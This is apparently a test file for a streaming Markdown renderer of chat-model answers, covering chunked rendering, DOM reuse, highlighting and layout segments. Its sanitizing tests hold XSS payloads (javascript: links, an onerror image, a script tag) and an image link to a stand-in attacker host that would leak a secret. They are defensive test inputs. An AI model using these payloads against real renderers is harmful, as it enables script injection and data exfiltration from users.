import { expect } from '@open-wc/testing';
import { loadLanguage } from '../../src/markdown/highlight.js';
import { MarkdownView } from '../../src/markdown/markdown-view.js';
import { FLOW_MS } from '../../src/markdown/cursor.js';
import { fakeClock } from '../fake-clock.js';
import { chatShowing, lastAnswer, until } from '../helpers.js';
import { randomPieces, seededRandom } from '../support.js';

const chunk = (text: string, seed: number, max: number): string[] => randomPieces(text, seededRandom(seed), max);

async function oneShot(text: string): Promise<string> {
  const view = new MarkdownView(document.createElement('div'));
  view.update(text, true);
  await view.settled();
  return view.root.innerHTML;
}

/** The top-level elements of rendered HTML (the chapters). */
function chaptersOf(html: string): Element[] {
  const root = document.createElement('div');
  root.innerHTML = html;
  return Array.from(root.children);
}

/** The segments of rendered HTML, in order across its chapters. */
function segmentsOf(html: string): Element[] {
  return chaptersOf(html).flatMap((chapter) => Array.from(chapter.children));
}

async function streamed(parts: string[]): Promise<string> {
  const view = new MarkdownView(document.createElement('div'));
  let text = '';
  for (const part of parts) {
    text += part;
    view.update(text, false);
  }
  view.update(text, true);
  await view.settled();
  return view.root.innerHTML;
}

const documents = {
  mixed: `# Run #5 post-mortem

The run lost **$1,240** over _three_ sessions. Key causes:

1. Slippage on \`market\` orders
2. A stop-loss that was too tight
   - triggered 14 times
   - median hold: 3 min

| Session | PnL | Trades |
|---|---:|---:|
| Mon | -420 | 31 |
| Tue | -610 | 44 |

> Note: fees are included.
> They add up.

\`\`\`python
def pnl(trades):
    return sum(t.exit - t.entry for t in trades)
\`\`\`

See the [docs](https://example.com/docs) and [the guide][guide].

[guide]: https://example.com/guide "Guide"
`,
  looseList: `- one

- two
- three

Paragraph after.
`,
  codeAtEnd: 'Here:\n\n```ts\nconst x: number = 1;\nconsole.log(x);\n```',
  crlf: 'Line one\r\nline two\r\n\r\n- a\r\n- b\r\n',
  nested: `Steps:

1. Install
   1. \`npm ci\`
   2. \`npm test\`
      - needs **Chromium**
      - or _Playwright's_ own
2. Run the demo

* star list
* with ~~struck~~ text and a [link](https://example.com/a_b)
`,
  languages: `~~~bash
npm run bench -- --quick
~~~

\`\`\`typescript
export const answer: number = 42;
\`\`\`

\`\`\`json
{ "run": 5, "pnl": -1842.6 }
\`\`\`

\`\`\`unknown-lang
no grammar here
\`\`\`
Trailing paragraph right after a fence.`,
  emphasisHeavy: 'A **bold** word, an _italic_ one, ***both***, \`code with ** stars\`, snake_case_name, 2 * 3 * 4, and **a [link](https://x.y) inside**.',
  setextAtEnd: 'Title\n=====\n\nSubtitle\n---',
  tableAtEnd: '| a | b |\n|:--|--:|\n| 1 | 2 |\n| 3 | 4 |',
};

describe('MarkdownView', () => {
  for (const [name, text] of Object.entries(documents)) {
    it(`streams "${name}" in random chunkings to the same DOM as a one-shot render`, async () => {
      const expected = await oneShot(text);
      expect(expected).to.not.equal('');
      for (const [seed, max] of [[1, 1], [2, 3], [3, 8], [4, 40], [5, 200]]) {
        expect(await streamed(chunk(text, seed, max)), `seed ${seed}, max ${max}`).to.equal(expected);
      }
    });
  }

  it('never shows a raw ** marker or a link to a partial URL mid-stream', async () => {
    let linksSeen = 0;
    for (const [name, text] of Object.entries(documents)) {
      const final = await oneShot(text);
      const finalHrefs = new Set(Array.from(new DOMParser().parseFromString(final, 'text/html').querySelectorAll('a')).map((a) => a.getAttribute('href')));
      const view = new MarkdownView(document.createElement('div'));
      for (let i = 1; i <= text.length; i++) {
        view.update(text.slice(0, i), false);
        const shown = view.root.textContent ?? '';
        if (!final.includes('**')) expect(shown.includes('**'), `${name} at ${i}: ${shown.slice(-40)}`).to.be.false;
        for (const a of Array.from(view.root.querySelectorAll('a'))) {
          linksSeen += 1;
          expect(finalHrefs.has(a.getAttribute('href')), `${name} at ${i}: link to ${a.getAttribute('href')}`).to.be.true;
        }
      }
    }
    // The link check ran: the documents have links, shown while they streamed.
    expect(linksSeen).to.be.above(50);
  });

  it('shows at every update what a fresh view shows for the same text', () => {
    const withoutCursor = (root: HTMLElement) => {
      const copy = root.cloneNode(true) as HTMLElement;
      copy.querySelectorAll('.cursor').forEach((cursor) => cursor.remove());
      // A segment started for an open block that then rendered to nothing (`~~` of a fence) stays.
      copy.querySelectorAll('.segment:empty').forEach((segment) => segment.remove());
      copy.querySelectorAll('.chapter:empty').forEach((chapter) => chapter.remove());
      // Spaces typed at the end of a line show at once (plain-append.ts) where a render drops them.
      return copy.innerHTML.replace(/[ \t]+(?=<)/g, '');
    };
    for (const [name, text] of Object.entries(documents)) {
      for (const [seed, max] of [[7, 4], [8, 25]]) {
        const view = new MarkdownView(document.createElement('div'));
        let shown = '';
        for (const piece of chunk(text, seed, max)) {
          shown += piece;
          view.update(shown, false);
          const fresh = new MarkdownView(document.createElement('div'));
          fresh.update(shown, false);
          expect(withoutCursor(view.root), `${name}, seed ${seed}, at ${shown.length}`).to.equal(withoutCursor(fresh.root));
        }
      }
    }
  });

  it('never re-renders a finished block', () => {
    const view = new MarkdownView(document.createElement('div'));
    view.update('First paragraph.\n\nSecond', false);
    const first = view.root.querySelector('p')!;
    expect(first.textContent).to.equal('First paragraph.');
    view.update('First paragraph.\n\nSecond paragraph grows', false);
    view.update('First paragraph.\n\nSecond paragraph grows\n\n- and a list', false);
    view.update('First paragraph.\n\nSecond paragraph grows\n\n- and a list\n', true);
    expect(view.root.querySelector('p')).to.equal(first);
    expect(view.root.contains(first)).to.be.true;
  });

  it('changes only what differs when the open block grows: earlier list items and table rows stay', () => {
    const view = new MarkdownView(document.createElement('div'));
    view.update('Intro.\n\n- first item *with* `code`\n- second', false);
    const [first, second] = Array.from(view.root.querySelectorAll('li'));
    view.update('Intro.\n\n- first item *with* `code`\n- second item **bold**\n- thi', false);
    const items = Array.from(view.root.querySelectorAll('li'));
    expect(items.map((li) => li.textContent)).to.deep.equal(['first item with code', 'second item bold', 'thi']);
    expect(items[0]).to.equal(first);
    expect(items[1]).to.equal(second);
    expect(view.root.querySelector('.cursor')?.parentElement).to.equal(items[2]);

    view.update('Intro.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n| 3', false);
    const row = view.root.querySelector('tbody tr')!;
    view.update('Intro.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n| 5 | 6', false);
    expect(view.root.querySelector('tbody tr')).to.equal(row);
    expect(Array.from(view.root.querySelectorAll('tbody tr')).map((tr) => tr.textContent!.replace(/\s/g, ''))).to.deep.equal(['12', '34', '56']);
  });

  it('colours a code block in a list once its grammar loads, when the list finished while it loaded', async () => {
    // The list's nodes are morphed into its finished render; that render's code is coloured
    // later, so it must be the render's code element that ends up shown, not the one streamed.
    const text = '- Step:\n\n  ```kotlin\n  fun main() {}\n  ```\n- next\n\nAfter.\n';
    const view = new MarkdownView(document.createElement('div'));
    let shown = '';
    for (const piece of chunk(text, 5, 6)) {
      shown += piece;
      view.update(shown, false);
    }
    view.update(text, true);
    await view.settled();
    expect(view.root.querySelector('li code.hljs .hljs-keyword')?.textContent).to.equal('fun');
    expect(view.root.innerHTML).to.equal(await oneShot(text));
  });

  it('keeps the cursor lit while text flows, also where the text grows in place, and lets it blink once it pauses', () => {
    const clock = fakeClock();
    try {
      const view = new MarkdownView(document.createElement('div'));
      const lit = () => !!view.root.querySelector('.cursor.flowing');
      // Words with markup, morphed in before the cursor, which stays at the end of the same
      // paragraph (morph.ts); then plain words appended in place (plain-append.ts); each for
      // longer than FLOW_MS, an update every 40 ms.
      let text = 'One';
      view.update(text, false);
      for (let i = 0; i < 40; i++) {
        text += i < 20 ? ` *x${i}* y` : ' more';
        view.update(text, false);
        clock.advance(40);
        expect(lit(), `update ${i}`).to.be.true;
      }
      expect(view.root.querySelector('p > .cursor')).to.exist;
      clock.advance(FLOW_MS);
      expect(lit(), 'blinks once the text pauses').to.be.false;
    } finally {
      clock.restore();
    }
  });

  it('keeps a selection the reader made in the block being written', () => {
    const root = document.createElement('div');
    document.body.append(root);
    try {
      const view = new MarkdownView(root);
      view.update('First words of *the* answer', false);
      const text = root.querySelector('p')!.firstChild!;
      getSelection()!.setBaseAndExtent(text, 0, text, 5);
      view.update('First words of *the* answer, and **more** `code`', false);
      expect(getSelection()!.anchorNode).to.equal(text);
      expect(getSelection()!.toString()).to.equal('First');
    } finally {
      getSelection()!.removeAllRanges();
      root.remove();
    }
  });

  it('keeps the nodes of an open block that finishes as it was shown, and ends as a one-shot render', async () => {
    const text = 'A paragraph with *emphasis* and `code`.\n\n- one\n- two\n';
    const view = new MarkdownView(document.createElement('div'));
    view.update('A paragraph with *emphasis* and `code`.', false);
    const paragraph = view.root.querySelector('p')!;
    const emphasis = paragraph.querySelector('em')!;
    view.update('A paragraph with *emphasis* and `code`.\n\n- one\n- tw', false);
    expect(view.root.querySelector('p')).to.equal(paragraph);
    expect(paragraph.querySelector('em')).to.equal(emphasis);
    const item = view.root.querySelector('li')!;
    view.update(text, true);
    expect(view.root.querySelector('li')).to.equal(item);
    expect(view.root.querySelector('.cursor')).to.equal(null);
    expect(view.root.innerHTML).to.equal(await oneShot(text));
  });

  it('renders an unterminated fence as an open code block, plain without a grammar, with a cursor', () => {
    const view = new MarkdownView(document.createElement('div'));
    view.update('Code:\n\n```fortran\nprogram f\n  print *, 1', false);
    const code = view.root.querySelector('.code-block pre code')!;
    expect(code.textContent).to.contain('program f');
    expect(code.classList.contains('hljs')).to.be.false;
    expect(view.root.querySelector('.code-block .cursor')).to.exist;
  });

  it('colours an open code block as it streams, and ends as a one-shot render does', async () => {
    expect(await loadLanguage('python')).to.be.true;
    const text = 'Code:\n\n```python\ndef f(x):\n    """Doc."""\n    return x + 1  # one\n\nprint(f(2))\n```\n\nDone.\n';
    const view = new MarkdownView(document.createElement('div'));
    const end = text.indexOf('```\n\nDone');
    let coloured = 0;
    for (let i = 12; i < end; i += 3) {
      view.update(text.slice(0, i), false);
      const code = view.root.querySelector('.code-block pre code')!;
      if (code.querySelector('.hljs-keyword')) coloured++;
      expect(code.querySelector('.cursor'), 'the cursor stays at the end of the code').to.exist;
    }
    expect(coloured, 'updates that showed colours while the fence was open').to.be.greaterThan(10);
    view.update(text, true);
    await view.settled();
    expect(view.root.innerHTML).to.equal(await oneShot(text));
  });

  it('highlights a closed block once its grammar loads, and removes the cursor at the end', async () => {
    const view = new MarkdownView(document.createElement('div'));
    view.update('```python\ndef f():\n    return 1\n```\n', true);
    await view.settled();
    expect(view.root.querySelector('code.hljs .hljs-keyword')!.textContent).to.equal('def');
    expect(view.root.querySelector('.cursor')).to.be.null;
    expect(view.root.querySelector('.code-language')!.textContent).to.equal('python');
  });

  it('resolves a reference link whose definition arrives after its use', async () => {
    const view = new MarkdownView(document.createElement('div'));
    view.update('See [the guide][g].\n\nMore text.\n\n', false);
    expect(view.root.querySelector('a')).to.be.null;
    view.update('See [the guide][g].\n\nMore text.\n\n[g]: https://example.com/g\n', true);
    expect(view.root.querySelector('a')!.getAttribute('href')).to.equal('https://example.com/g');
  });

  it('starts over when the text is replaced rather than extended', () => {
    const view = new MarkdownView(document.createElement('div'));
    view.update('Old answer.\n\nMore', false);
    view.update('New answer.', true);
    expect(view.root.textContent!.trim()).to.equal('New answer.');
  });
});

/** A long answer: `count` blocks of every kind, with headings and rules where segments may not start. */
function longAnswer(count = 200): string {
  const next = seededRandom(42);
  const blocks: string[] = [];
  for (let i = 0; blocks.length < count; i++) {
    const kind = Math.floor(next() * 8);
    if (kind === 0) blocks.push(`## Section ${i}`);
    else if (kind === 1) blocks.push(`- item ${i}\n- item ${i} **b**\n  - nested`);
    else if (kind === 2) blocks.push('```js\nconst x = ' + i + ';\n```');
    else if (kind === 3) blocks.push(`> quoted ${i}`);
    else if (kind === 4) blocks.push(`| a | b |\n|---|---|\n| ${i} | x |`);
    else if (kind === 5) blocks.push('---');
    else blocks.push(`Paragraph ${i} with _emphasis_ and a [link](https://example.com/${i}).`);
  }
  return blocks.join('\n\n');
}

describe('MarkdownView segments', () => {
  it('groups a long answer into segments and those into chapters, the same however it was chunked', async () => {
    // 700 blocks: about 20 segments of 32, in 5 or more chapters of 4.
    const text = longAnswer(700);
    const expected = await oneShot(text);
    for (const [seed, max] of [[6, 3], [7, 50], [8, 400]]) {
      expect(await streamed(chunk(text, seed, max)), `seed ${seed}, max ${max}`).to.equal(expected);
    }
    const chapters = chaptersOf(expected);
    const segments = segmentsOf(expected);
    expect(chapters.length).to.be.above(4);
    expect(segments.length).to.be.above(16);
    expect([...chapters, ...segments].every((s) => s.localName === 'div')).to.be.true;
    // Full chapters are sealed (the styles let them skip rendering off-screen); the last, still
    // filling, is not. Segments are never sealed: only chapters skip rendering.
    expect(chapters.map((c) => c.className)).to.deep.equal([...chapters.slice(1).map(() => 'chapter sealed'), 'chapter']);
    expect(segments.every((s) => s.className === 'segment')).to.be.true;
    for (const chapter of chapters.slice(0, 4)) expect(chapter.children.length).to.equal(4);
    // Full segments of at least 32 blocks; each later one starts with, and each earlier one ends
    // with, a block whose top margin is zero and bottom margin 0.75em (never a heading or a rule),
    // so segment edges do not change the spacing.
    for (const segment of segments.slice(0, -1)) expect(segment.children.length).to.be.at.least(32);
    const edgeBlock = (e: Element) => ['p', 'ul', 'ol', 'blockquote', 'table'].includes(e.localName) || e.classList.contains('code-block');
    for (const segment of segments.slice(1)) expect(edgeBlock(segment.firstElementChild!), segment.firstElementChild!.localName).to.be.true;
    for (const segment of segments.slice(0, -1)) expect(edgeBlock(segment.lastElementChild!), segment.lastElementChild!.localName).to.be.true;
  });

  it('makes later chapters longer: 4 chapters of 4 segments, 4 of 8, then 16 each', async () => {
    // Fewer elements that skip rendering in a very long answer: the browser's style update spends
    // time on each of them at every frame. Short paragraphs, so that there are many segments.
    const text = Array.from({ length: 4000 }, (_, i) => `Paragraph ${i}.`).join('\n\n');
    const chapters = chaptersOf(await oneShot(text));
    const sizes = chapters.map((c) => c.children.length);
    expect(sizes.slice(0, 8)).to.deep.equal([4, 4, 4, 4, 8, 8, 8, 8]);
    expect(sizes.length).to.be.above(9);
    for (const size of sizes.slice(8, -1)) expect(size).to.equal(16);
    expect(sizes.at(-1)).to.be.within(1, 16);
    expect(chapters.map((c) => c.className)).to.deep.equal([...chapters.slice(1).map(() => 'chapter sealed'), 'chapter']);
    // Every block is there, in order.
    const paragraphs = chapters.flatMap((c) => Array.from(c.querySelectorAll('p'), (p) => p.textContent));
    expect(paragraphs).to.have.length(4000);
    expect(paragraphs.every((p, i) => p === `Paragraph ${i}.`)).to.be.true;
  });

  it('re-renders a long answer in segments when a reference definition arrives last', async () => {
    const text = `See [the guide][g].\n\n${longAnswer()}\n\n[g]: https://example.com/g\n`;
    const expected = await oneShot(text);
    expect(await streamed(chunk(text, 9, 30))).to.equal(expected);
    const segments = segmentsOf(expected);
    expect(segments[0].querySelector(':scope > p:first-child a')?.getAttribute('href')).to.equal('https://example.com/g');
    expect(segments.length).to.be.above(4);
  });

  it('spaces blocks across segment and chapter edges exactly as inside a segment', async () => {
    // Paragraphs and headings only: every paragraph-to-paragraph gap must be the same, and every
    // paragraph-to-heading gap, whether or not a segment or chapter edge lies between them.
    const blocks = Array.from({ length: 330 }, (_, i) => (i % 8 === 0 ? `## Heading ${i}` : `Paragraph ${i}.`));
    const el = await chatShowing('height: 400px; display: block', blocks.join('\n\n'));
    // All of it: a long answer is shown over a few frames (catch-up.ts), its last block re-rendered.
    await until(() => lastAnswer(el)?.querySelectorAll('.segment > *').length === blocks.length, 'every block');
    const elements = Array.from(lastAnswer(el).querySelectorAll('.segment > *'));
    const edges = elements.flatMap((e, i) => (i > 0 && e.parentElement !== elements[i - 1].parentElement ? [i] : []));
    expect(edges.length).to.be.above(1);
    const chapterEdges = edges.filter((i) => elements[i].parentElement!.parentElement !== elements[i - 1].parentElement!.parentElement);
    expect(chapterEdges.length).to.be.above(1);
    // Every chapter, the open one too, has style containment from the start (styles/markdown.ts):
    // gaining it when sealed made that frame's style update walk the whole answer.
    const chapters = Array.from(lastAnswer(el).querySelectorAll('.chapter'));
    expect(chapters.some((c) => !c.classList.contains('sealed')) && chapters.some((c) => c.classList.contains('sealed'))).to.be.true;
    for (const chapter of chapters) expect(getComputedStyle(chapter).contain).to.equal('style');
    // Every block paints on its own (a stacking context that changes nothing else): the browser
    // reuses its painting while the answer grows after it. Spacing is unchanged (checked below).
    expect(elements.filter((e) => getComputedStyle(e).isolation !== 'isolate')).to.deep.equal([]);
    const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
    const gaps = new Map<string, Set<number>>();
    // Sealed chapters off-screen are not laid out (their size is an estimate until they have been on
    // screen), so each pair is measured once both of its blocks are rendered, brought on screen first.
    const rendered = (e: Element) => e.checkVisibility({ contentVisibilityAuto: true });
    for (let i = 1; i < elements.length; i++) {
      for (let tries = 0; !(rendered(elements[i - 1]) && rendered(elements[i])) && tries < 10; tries++) {
        elements[i].scrollIntoView({ block: 'center' });
        await frame();
        await frame();
      }
      const pair = `${elements[i - 1].localName}->${elements[i].localName}`;
      const gap = Math.round(elements[i].getBoundingClientRect().top - elements[i - 1].getBoundingClientRect().bottom);
      if (!gaps.has(pair)) gaps.set(pair, new Set());
      gaps.get(pair)!.add(gap);
    }
    expect([...gaps.keys()].sort()).to.deep.equal(['h2->p', 'p->h2', 'p->p']);
    for (const [pair, sizes] of gaps) expect([...sizes], pair).to.have.length(1);
    // No margin above the first block or below the last: the answer's own spacing is all there is.
    expect(getComputedStyle(elements[0]).marginTop).to.equal('0px');
    expect(getComputedStyle(elements.at(-1)!).marginBottom).to.equal('0px');
  });
});

describe('sanitizing model output', () => {
  function render(text: string): HTMLElement {
    const view = new MarkdownView(document.createElement('div'));
    view.update(text, true);
    return view.root;
  }

  it('drops javascript:, vbscript: and data: link targets in any spelling', () => {
    const root = render(
      '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:msgbox) [d](data:text/html,<script>alert(1)</script>) [e](&#106;avascript:alert(1)) [ok](https://example.com/ok)',
    );
    // Every link text is still shown; the one safe link keeps its target and no other has one.
    expect(root.textContent).to.match(/^a b c d e ok\s*$/);
    const hrefs = Array.from(root.querySelectorAll('a[href]')).map((a) => a.getAttribute('href'));
    expect(hrefs).to.deep.equal(['https://example.com/ok']);
  });

  it('opens links in a new tab without an opener', () => {
    const a = render('[docs](https://example.com)').querySelector('a')!;
    expect(a.target).to.equal('_blank');
    expect(a.rel).to.equal('noopener noreferrer');
  });

  it('shows raw HTML as text and runs nothing', () => {
    const root = render('<img src=x onerror="window.__pwned=1"> <script>window.__pwned=1</script>\n\n<div onclick="x()">hi</div>');
    expect(root.querySelector('img, script, div[onclick]')).to.be.null;
    expect(root.textContent).to.contain('<img src=x');
    expect((window as unknown as { __pwned?: number }).__pwned).to.be.undefined;
  });

  it('does not fetch images; they become placeholders the user clicks to load', () => {
    const root = render('![chart](https://attacker.example/leak?q=secret)');
    expect(root.querySelector('img')).to.be.null;
    const placeholder = root.querySelector<HTMLAnchorElement>('a.image-placeholder')!;
    expect(placeholder.textContent).to.equal('🖼 chart — load image');
    expect(placeholder.dataset.src).to.equal('https://attacker.example/leak?q=secret');
  });
});
